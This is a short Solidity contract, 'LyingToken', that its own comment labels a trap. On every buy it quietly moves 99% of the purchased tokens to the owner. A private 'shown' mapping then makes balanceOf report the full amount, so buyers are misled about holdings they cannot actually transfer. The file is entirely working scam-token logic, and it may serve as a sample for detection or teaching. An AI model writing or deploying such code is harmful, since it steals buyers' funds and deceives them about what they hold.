// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {OwnedToken} from "OwnedToken.sol";
import {PlainToken} from "PlainToken.sol";

/// Trap: a buyer gets 1% of what event and `balanceOf` say. The rest is shown, never held, and cannot be sent.
contract LyingToken is OwnedToken {
    mapping(address holder => uint256) private shown;

    constructor(string memory name_, string memory symbol_, uint256 supply) PlainToken(name_, symbol_, supply) {}

    function balanceOf(address account) public view override returns (uint256) {
        return held[account] + shown[account];
    }

    function _move(address from, address to, uint256 amount) internal override {
        super._move(from, to, amount);
        if (_isBuy(from, to)) {
            uint256 kept = amount - amount / 100;
            held[to] -= kept;
            held[owner] += kept;
            shown[to] += kept;
        }
    }
}
